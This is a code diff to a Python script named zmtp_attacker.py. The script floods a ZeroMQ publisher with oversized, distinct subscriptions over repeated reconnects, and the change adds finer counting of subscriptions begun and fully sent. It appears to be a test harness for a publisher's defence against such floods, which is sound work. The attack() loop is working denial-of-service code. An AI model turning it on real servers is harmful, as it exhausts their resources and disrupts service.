@@ -4,7 +4,9 @@ flood costs the attacker nothing (a libzmq SUB would store each one in its own t
 
 Run as a process: `python zmtp_attacker.py HOST PORT SECONDS SIZE COUNT` sends COUNT distinct
 subscriptions of SIZE bytes per connection, reconnecting whenever the publisher drops it,
-until SECONDS have passed; it prints how many connections it made and subscriptions it sent.
+until SECONDS have passed; it prints how many connections it made, subscriptions it began to
+send and subscriptions the kernel took whole (a publisher that refuses a large one at its
+header may drop the connection before any is taken: how many were is a race with it).
 """
 
 from __future__ import annotations
@@ -32,9 +34,9 @@ def ready() -> bytes:
     return frame(b"\x05READY" + prop, command=True)
 
 
-def attack(host: str, port: int, seconds: float, size: int, count: int) -> tuple[int, int]:
+def attack(host: str, port: int, seconds: float, size: int, count: int) -> tuple[int, int, int]:
     end = time.monotonic() + seconds
-    connections = sent = 0
+    connections = began = sent = 0
     serial = 0
     while time.monotonic() < end:
         try:
@@ -48,6 +50,7 @@ def attack(host: str, port: int, seconds: float, size: int, count: int) -> tuple
             for _ in range(count):
                 serial += 1
                 topic = b"%010d" % serial
+                began += 1
                 conn.sendall(frame(b"\x01" + topic + b"x" * (size - len(topic))))
                 sent += 1
                 if time.monotonic() >= end:
@@ -57,10 +60,10 @@ def attack(host: str, port: int, seconds: float, size: int, count: int) -> tuple
             pass  # the publisher dropped this connection: connect again
         finally:
             conn.close()
-    return connections, sent
+    return connections, began, sent
 
 
 if __name__ == "__main__":
     host, port, seconds, size, count = sys.argv[1:6]
-    made, sent = attack(host, int(port), float(seconds), int(size), int(count))
-    print(f"{made} {sent}", flush=True)
+    made, began, sent = attack(host, int(port), float(seconds), int(size), int(count))
+    print(f"{made} {began} {sent}", flush=True)
